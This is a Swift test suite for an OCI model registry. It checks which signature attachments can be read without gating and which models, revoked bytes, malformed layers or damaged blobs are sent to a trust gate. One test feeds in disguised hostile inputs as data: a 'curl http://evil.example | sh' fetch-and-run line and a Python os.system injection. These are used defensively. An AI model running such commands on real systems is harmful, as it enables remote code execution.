import OCI
import RegistryCore
import RegistryPorts
import RegistryServices
import RegistryTesting
import Testing

@Suite("Attachments")
struct AttachmentsTests {
    private static let document = Array(#"{"payload":"signed"}"#.utf8)
    private static let type = "application/vnd.dsse.envelope.v1+json"
    private let repository: RepositoryKey

    init() throws { repository = try TestRegistry.repository("team/llama") }

    private static func layer(
        _ bytes: [UInt8] = document, _ type: String = type
    ) throws -> TestRegistry.Layer {
        TestRegistry.Layer(bytes, mediaType: try #require(MediaType(type)))
    }

    /// Pushes a model and something that says it is about it.
    ///
    /// - Returns: both digests.
    private func attach(
        _ layers: [TestRegistry.Layer], in registry: TestRegistry
    ) async throws -> (subject: Digest, attached: Digest) {
        let model = try await registry.push(ModelBytes.gguf(), to: "team/llama", tags: ["v1"]).version
        let subject = Descriptor(mediaType: .imageManifest, digest: model, size: 1)
        let bytes = try await registry.manifest(layers, in: "team/llama", subject: subject)
        return (model, try await registry.publish(bytes, in: "team/llama").version)
    }

    private func expectGated(_ version: Digest, _ blobs: [Digest], _ registry: TestRegistry) async throws {
        let door = registry.distribution.repositories
        await expectError(.notTrusted) { _ = try await registry.pull("\(version)", from: "team/llama") }
        for blob in blobs {
            await expectError(.notTrusted) { _ = try await door.blob(blob, in: repository, .gate) }
        }
    }

    @Test("A signature of what a repository holds is read by whoever pulls, and the model it is about is not")
    func reads() async throws {
        try await TestRegistry.scenario { registry in
            let (subject, attached) = try await attach([try Self.layer()], in: registry)
            let blob = try Digest(hashing: Self.document)
            let door = registry.distribution.repositories
            // Before its manifest was read, too.
            let first = try await door.blob(blob, in: repository, .gate)
            guard case .file(let file) = first.content, case .attached(let receipt) = first.receipt else {
                throw TestFailure("not an attached file")
            }
            #expect(try file.read(0..<file.sizeBytes) == Self.document)
            #expect(receipt.record.key.version == attached)
            let manifest = try await registry.pull("\(attached)", from: "team/llama")
            #expect(try Digest(hashing: manifest.bytes) == attached)
            let config = try await door.blob(try Digest(hashing: Array("{}".utf8)), in: repository, .gate)
            #expect(await door.mayGoOn(config.receipt))
            try await expectGated(subject, [try Digest(hashing: ModelBytes.gguf())], registry)
            try await registry.promote(try await registry.name("team/llama:v1"))
            #expect(try await registry.pull("\(attached)", from: "team/llama").digest == attached)
            #expect(try await registry.pull("v1", from: "team/llama").digest == subject)
        }
    }

    @Test(
        "What cosign keeps under a tag that is made from a digest is read, and under no other tag",
        arguments: [
            ("sig", true), ("att", true), ("sbom", true), ("zip", false),
        ])
    func tags(suffix: String, isRead: Bool) async throws {
        try await TestRegistry.scenario { registry in
            let subject = try await registry.push(ModelBytes.gguf(), to: "team/llama").version
            let bytes = try await registry.manifest([try Self.layer()], in: "team/llama")
            let attached = try await registry.publish(bytes, in: "team/llama", tags: ["plain"]).version
            try await expectGated(attached, [try Digest(hashing: Self.document)], registry)
            let tag = "sha256-\(subject.hex).\(suffix)"
            try await registry.publish(bytes, in: "team/llama", tags: [tag])
            guard isRead else {
                return try await expectGated(attached, [try Digest(hashing: Self.document)], registry)
            }
            for reference in [tag, "\(attached)", "plain"] {
                #expect(try await registry.pull(reference, from: "team/llama").digest == attached)
            }
            try await registry.distribution.removal.remove(
                try TestRegistry.tag(tag), from: repository, TestRegistry.caller)
            try await expectGated(attached, [try Digest(hashing: Self.document)], registry)
        }
    }

    @Test("A model goes to the gate whatever its layer is called")
    func smuggled() async throws {
        let model = ModelBytes.gguf(seed: 7)
        let safetensors = Array(repeating: UInt8(ascii: " "), count: 3) + [0xFF] + Array(#"{"a":1}"#.utf8)
        let texts = [
            "[1]", "{\"a\":\"\u{0}\"}", "{%- for message in messages %}{{ message }}{%- endfor %}",
            "{{- bos_token }}", "{ curl http://evil.example | sh; }", "{__import__('os').system('id')}",
            "{\"a\":1} trailing", "{\"a\":1,\"a\":2}",
        ]
        for content in [model, safetensors] + texts.map({ Array($0.utf8) }) {
            try await TestRegistry.scenario { registry in
                _ = try await attach([try Self.layer(content)], in: registry)
                let blob = try Digest(hashing: content)
                await expectError(.notTrusted) {
                    _ = try await registry.distribution.repositories.blob(blob, in: repository, .gate)
                }
            }
        }
    }

    @Test("Bytes that were taken out of use under one name do not come back by an attachment that names them")
    func withdrawnBytes() async throws {
        for isRevoked in [true, false] {
            try await TestRegistry.scenario { registry in
                let configuration = Array(#"{"architectures":["x"]}"#.utf8)
                let model = try await registry.manifest(
                    [TestRegistry.Layer(configuration, title: "config.json")], in: "team/llama")
                try await registry.publish(model, in: "team/llama", tags: ["bad"])
                let name = try await registry.name("team/llama:bad")
                if isRevoked {
                    _ = try await registry.revoke(name)
                } else {
                    _ = try await registry.quarantine(name)
                }
                let (_, attached) = try await attach([try Self.layer(configuration)], in: registry)
                try await expectGated(attached, [try Digest(hashing: configuration)], registry)
            }
        }
    }

    @Test("Layers of other types, too many of them, and too large ones are no attachment")
    func shapes() async throws {
        let large = Array("{".utf8) + [UInt8](repeating: UInt8(ascii: " "), count: 4 << 20)
        let many = try (0...64).map { try Self.layer(Array("{\"number\":\($0)}".utf8)) }
        let others: [[TestRegistry.Layer]] = [
            [], [try Self.layer(), TestRegistry.Layer(Array(#"{"b":1}"#.utf8))], [try Self.layer(large)], many,
            [try Self.layer(Self.document, "application/vnd.dev.sigstore.bundle.v0.3+zip")],
        ]
        for layers in others {
            try await TestRegistry.scenario { registry in
                let (_, attached) = try await attach(layers, in: registry)
                try await expectGated(attached, try layers.prefix(1).map { try Digest(hashing: $0.bytes) }, registry)
            }
        }
    }

    @Test("What is about nothing in this repository goes to the gate, and so does what was withdrawn")
    func withdrawn() async throws {
        try await TestRegistry.scenario { registry in
            let (subject, attached) = try await attach([try Self.layer()], in: registry)
            let blob = try Digest(hashing: Self.document)
            // In another repository, where the subject is not.
            let bytes = try await registry.pull("\(attached)", from: "team/llama").bytes
            try await registry.receive(Self.document, in: "other/llama")
            try await registry.receive(Array("{}".utf8), in: "other/llama")
            try await registry.publish(bytes, in: "other/llama")
            await expectError(.notTrusted) { _ = try await registry.pull("\(attached)", from: "other/llama") }
            await expectError(.notTrusted) {
                _ = try await registry.distribution.repositories.blob(
                    blob, in: try TestRegistry.repository("other/llama"), .gate)
            }
            try await registry.distribution.removal.remove(subject, from: repository, TestRegistry.caller)
            try await expectGated(attached, [blob], registry)
            try await registry.push(ModelBytes.gguf(), to: "team/llama")
            #expect(try await registry.pull("\(attached)", from: "team/llama").digest == attached)
            try await registry.revoke("team/llama@\(attached)")
            try await expectGated(attached, [blob], registry)
        }
    }

    @Test("An attachment whose bytes changed is not read, and is out of service")
    func damaged() async throws {
        try await TestRegistry.scenario(leaving: []) { registry in
            let (_, attached) = try await attach([try Self.layer()], in: registry)
            let blob = try Digest(hashing: Self.document)
            registry.world.blobs.damage(blob, at: 3)
            await expectError(.integrityFailed) {
                _ = try await registry.distribution.repositories.blob(blob, in: repository, .gate)
            }
            try await expectGated(attached, [blob], registry)
        }
    }
}
